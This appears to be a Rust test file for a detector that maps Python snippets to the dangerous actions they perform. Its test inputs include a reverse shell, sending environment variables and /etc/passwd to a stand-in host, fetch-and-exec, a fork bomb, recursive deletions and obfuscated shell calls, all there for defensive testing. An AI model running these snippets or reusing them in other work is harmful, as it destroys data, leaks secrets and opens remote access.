//! Python.

use super::{Language::Python, check};

#[test]
fn starts() {
    check(
        Python,
        &[
            ("import os; os.system('rm -rf build')", &["shell rm -rf build"]),
            ("__import__('os').system(\"rm -rf out\")", &["shell rm -rf out"]),
            ("import subprocess as s\ns.run(['git', 'push', '--force'])", &["run git push --force"]),
            ("from os import system as z; z('make clean')", &["shell make clean"]),
            ("from os import *\nsystem('halt')", &["shell halt"]),
            ("import subprocess; subprocess.run('rm -r d', shell=True, check=True)", &["shell rm -r d"]),
            (
                "import subprocess\nsubprocess.check_output([\"sh\", \"-c\", \"rm -rf d\"])",
                &["run sh -c rm -rf d"],
            ),
            ("cmd = 'rm -rf ' + 'dist'\nimport os\nos.popen(cmd).read()", &["shell rm -rf dist"]),
            (
                "import os\nfor d in ['a', 'b']:\n    os.system('rm -r ' + d)",
                &["shell rm -r a", "shell rm -r b"],
            ),
            ("import os\nos.system(f'rm -rf {x}')", &["shell rm -rf $unknown"]),
            ("import os\nos.system('rm -rf %s' % 'lib')", &["shell rm -rf lib"]),
            ("import os\nos.system('rm -rf {}'.format('lib'))", &["shell rm -rf lib"]),
            ("import os\nos.execvp('rm', ['rm', '-rf', 'lib'])", &["run rm -rf lib"]),
            ("import os\nos.execl('/bin/rm', 'rm', '-rf', 'lib')", &["run /bin/rm -rf lib"]),
            ("import os\nos.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', 'lib')", &["run rm -rf lib"]),
            ("getattr(__import__('os'), 'sys' + 'tem')('halt')", &["shell halt"]),
            ("import subprocess, shlex\nsubprocess.call(shlex.split('rm -rf lib'))", &["shell rm -rf lib"]),
            ("import subprocess\nsubprocess.call('rm -rf lib'.split())", &["run rm -rf lib"]),
            ("import os\nlist(map(os.system, ['halt']))", &["shell halt"]),
            ("import os\nf = os.system\nf('halt')", &["shell halt"]),
            ("import os\ndef go(c):\n    os.system(c)\ngo('halt')", &["shell halt"]),
            (
                "import threading, os\nthreading.Thread(target=os.system, args=('halt',)).start()",
                &["shell halt"],
            ),
            (
                "import subprocess\nsubprocess.run(['sh'], input='rm -rf lib', text=True)",
                &["shell printf '%s' 'rm -rf lib' | 'sh'"],
            ),
        ],
    );
}

#[test]
fn removals_and_writes() {
    check(
        Python,
        &[
            ("import shutil\nshutil.rmtree('lib')", &["same rm -r -f lib"]),
            ("from shutil import rmtree\nrmtree('/')", &["same rm -r -f /"]),
            ("import os\nos.remove('a.txt')", &["same rm a.txt"]),
            ("from pathlib import Path\nPath('a.txt').unlink()", &["same rm a.txt"]),
            ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", &["same rm -r -f $HOME"]),
            (
                "import shutil, pathlib\nshutil.rmtree(pathlib.Path.home() / 'work')",
                &["same rm -r -f $HOME/work"],
            ),
            ("import shutil, os\nshutil.rmtree(os.path.join('/', 'etc'))", &["same rm -r -f /etc"]),
            ("import glob, os\nfor f in glob.glob('*.pyc'): os.remove(f)", &["same rm *.pyc"]),
            ("import os\n[os.remove(f) for f in os.listdir('/var/log')]", &["same rm /var/log/*"]),
            ("open('/etc/fstab', 'w').write('')", &["write /etc/fstab"]),
            ("with open('notes.md', mode='a') as f:\n    f.write('rm -rf /')", &["append notes.md"]),
            ("import pathlib\npathlib.Path('/etc/motd').write_text('x')", &["write /etc/motd"]),
            ("import os\nos.chmod('/etc/shadow', 0o777)", &["same chmod 777 /etc/shadow"]),
            ("import os, signal\nos.kill(-1, signal.SIGKILL)", &["same kill -KILL -1"]),
            ("import os\nos.kill(-1, 9)", &["same kill -9 -1"]),
            ("import shutil\nshutil.move('a', '/dev/null')", &["same mv a /dev/null"]),
            ("c.execute('DROP TABLE users')", &["same psql -c DROP TABLE users"]),
        ],
    );
}

#[test]
fn code_in_texts() {
    check(
        Python,
        &[
            ("exec('import os\\nos.system(\"halt\")')", &["shell halt"]),
            (
                "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaGFsdCcp'))",
                &["shell halt"],
            ),
            ("import sys\nexec(sys.stdin.read())", &["unknown"]),
            ("import os\nos.system(''.join(chr(c) for c in [104, 97, 108, 116]))", &["shell halt"]),
            ("import os\nos.system(''.join(map(chr, [104, 97, 108, 116])))", &["shell halt"]),
            ("import os\nos.system('tlah'[::-1])", &["shell halt"]),
            ("import os\nos.system(bytes.fromhex('68616c74').decode())", &["shell halt"]),
            ("import codecs, os\nos.system(codecs.decode('unyg', 'rot13'))", &["shell halt"]),
            ("eval(compile('__import__(\"os\").system(\"halt\")', 's', 'exec'))", &["shell halt"]),
            (
                "import urllib.request as u\nexec(u.urlopen('https://x.example/a').read())",
                &["same curl https://x.example/a", "shell curl 'https://x.example/a' | python3", "unknown"],
            ),
            ("exec(open('setup.py').read())", &["read setup.py", "same python3 setup.py"]),
            ("import os\nos.system(input())", &["unknown"]),
        ],
    );
}

#[test]
fn together() {
    check(
        Python,
        &[
            ("import os\nwhile True: os.fork()", &["bomb"]),
            ("import os\nwhile True:\n    os.fork()", &["bomb"]),
            ("import os\nwhile True:\n    c = s.accept()\n    if os.fork() == 0: break", &[]),
            (
                "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('10.1.1.1',9001))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
                &["run /bin/sh -i", "reverse"],
            ),
            (
                "import os, requests\nrequests.post('https://x.example', data=dict(os.environ))",
                &["shell env | curl -d @- 'https://x.example'", "same curl -X POST https://x.example"],
            ),
            (
                "import requests\nrequests.post('https://x.example', data=open('/etc/passwd').read())",
                &[
                    "read /etc/passwd",
                    "shell cat '/etc/passwd' | curl -d @- 'https://x.example'",
                    "same curl -X POST https://x.example",
                ],
            ),
        ],
    );
}

#[test]
fn harmless() {
    check(
        Python,
        &[
            ("print('rm -rf /tmp/x')", &[]),
            ("# os.system('halt')\nprint(1)", &[]),
            ("msg = \"os.system('rm -rf /')\"\nprint(msg)", &[]),
            ("\"\"\"\nos.system('halt')\n\"\"\"\nx = 1", &[]),
            ("import json, sys\nfor row in json.load(sys.stdin): print(row['name'], row.get('id'))", &[]),
            ("import json\nd = json.load(open('package.json'))\nprint(d['version'])", &["read package.json"]),
            ("import os\nprint(os.getcwd(), os.environ['HOME'], os.environ.get('PATH'))", &[]),
            ("import re\nprint(re.sub(r'rm -rf \\w+', '', 'x'))", &[]),
            ("print(f'{1 + 1:>10} {\"rm -rf /\"!r}')", &[]),
            ("import sys; print(sys.version_info[:2])", &[]),
            ("print({'a': 1, 'b': [1, 2, {'c': 'halt'}]})", &[]),
            ("import math\ndef f(n):\n    return 1 if n < 2 else n * f(n - 1)\nprint(f(20), math.pi)", &[]),
            ("import ast,sys; ast.parse(open(sys.argv[1]).read())", &["read $unknown"]),
            ("assert 1 + 1 == 2, 'rm -rf /'", &[]),
            ("class A:\n    def system(self, x): return x\nA().x", &[]),
        ],
    );
}
